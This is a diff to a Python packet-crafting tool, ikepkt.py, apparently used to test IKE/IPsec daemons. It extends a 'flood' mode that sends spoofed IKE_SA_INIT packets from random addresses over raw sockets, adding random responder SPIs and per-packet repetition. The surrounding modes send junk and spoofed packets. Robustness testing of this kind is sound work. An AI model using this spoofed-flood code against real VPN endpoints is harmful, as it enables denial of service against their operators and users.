@@ -7,12 +7,15 @@
                      [--raw]
   ikepkt.py esp  DST [--proto 50|51] [--spi N] [--count N]
   ikepkt.py flood DST --sources CIDR [--count N] [--dport 500]
+                      [--rcookie HEX|random] [--repeat N] [--exchange 34]
   ikepkt.py junk DST [--dport 500] [--sport P] [--size N] [--count N]
                      [--seed N] [--kind random|truncated|biglen|keepalive]
 
 IPv6 when DST contains a colon. On port 4500 IKE gets the non-ESP marker.
 flood sends IKE_SA_INIT openings from random addresses of an IPv4 CIDR
-(IP_HDRINCL), each with a fresh SPI: a spoofed fake-IKE flood.
+(IP_HDRINCL), each with a fresh SPI: a spoofed fake-IKE flood; with
+--rcookie random each carries a fresh non-zero responder SPI too (a flood
+of claims), and --repeat sends every packet that many times.
 --raw writes the UDP header itself, so that --sport may be a port another
 socket (charon's) holds: a spoofed packet from the client's own flow.
 """
@@ -82,15 +85,20 @@ def send_flood(a):
     size = 1 << (32 - int(bits))
     first, hosts = (base + 1, size - 2) if size > 2 else (base, size)
     rnd = random.Random(a.seed)
+    rc_random = a.rcookie == "random"
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     for _ in range(a.count):
         a.src = socket.inet_ntoa(struct.pack("!I", first + rnd.randrange(hosts)))
-        a.sport, a.icookie = rnd.randrange(1024, 65536), None
+        a.sport = rnd.randrange(1024, 65536)
+        a.icookie = "%016x" % rnd.randrange(1, 1 << 64)
+        if rc_random:
+            a.rcookie = "%016x" % rnd.randrange(1, 1 << 64)
         udp = raw_udp(a, ike_message(a))
         ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64,
                          socket.IPPROTO_UDP, 0, socket.inet_aton(a.src),
                          socket.inet_aton(a.dst))
-        s.sendto(ip + udp, (a.dst, 0))
+        for _ in range(a.repeat):
+            s.sendto(ip + udp, (a.dst, 0))
 
 
 def send_ike(a):
@@ -148,6 +156,7 @@ def main():
     p.add_argument("--exchange", type=int, default=34)
     p.add_argument("--length", type=int)
     p.add_argument("--count", type=int, default=1)
+    p.add_argument("--repeat", type=int, default=1)
     p.add_argument("--proto", type=int, default=50)
     p.add_argument("--spi", type=int, default=0x1000)
     p.add_argument("--size", type=int, default=64)
